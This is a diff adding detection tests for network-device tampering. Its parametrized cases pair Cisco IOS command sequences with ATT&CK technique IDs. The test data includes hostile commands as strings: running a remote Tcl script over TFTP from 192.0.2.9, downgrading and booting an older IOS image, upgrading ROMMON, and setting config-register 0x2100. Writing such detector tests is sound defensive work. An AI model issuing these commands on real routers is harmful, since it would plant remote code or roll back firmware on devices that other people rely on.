@@ -57,6 +57,41 @@ def test_a_chain_is_one_finding(tmp_path: Path) -> None:
     assert found.title == "Image replaced and armed for the next boot on r1: c2900.bin"
 
 
+REPLACED = "t1601-001-image-replaced-and-armed"
+OLDER = "t1601-002-older-image-started"
+SHELLS = "t1059-008-network-device-shell"
+NEWER = "boot system flash:c2900-universalk9-mz.SPA.158-3.M2.bin"
+CALLED = {  # what was done, and the first technique of the finding
+    "an image that was armed and started beside a shell": (
+        ["tclsh tftp://192.0.2.9/x.tcl", BOOT, "reload"],
+        "T1601.001",
+    ),
+    "an older one": (
+        [
+            "copy tftp://192.0.2.9/c2900-universalk9-mz.SPA.151-4.M8.bin flash:",
+            "boot system flash:c2900-universalk9-mz.SPA.151-4.M8.bin",
+            "reload",
+        ],
+        "T1601.002",
+    ),
+    "firmware that a file was brought for": (
+        ["copy tftp://192.0.2.9/rommon.pkg flash:", "upgrade rom-monitor filename flash:rommon.pkg all", "reload"],
+        "T1542.004",
+    ),
+    "the configuration register": (["config-register 0x2100", "reload"], "T1542"),
+    "a shell beside a restart": (["tclsh tftp://192.0.2.9/x.tcl", "reload"], "T1059.008"),
+}
+
+
+@pytest.mark.parametrize("case", CALLED)
+def test_what_a_story_is_called_first(case: str, tmp_path: Path) -> None:
+    commands, technique = CALLED[case]
+    lines = [local(5 * number, command) for number, command in enumerate(commands)]
+    ran = local(-4320, "boot system flash:c2900-universalk9-mz.SPA.157-3.M8.bin")
+    found, *_ = scanned(tmp_path, [ran, *lines], only=[REPLACED, OLDER, SHELLS, ALONE])
+    assert found.techniques[0] == technique
+
+
 ALONE_TABLE = {  # what was done, and what it scores outside a chain
     "a copy": ([COPY], 35),
     "a copy and a boot change": ([COPY, BOOT], 63),
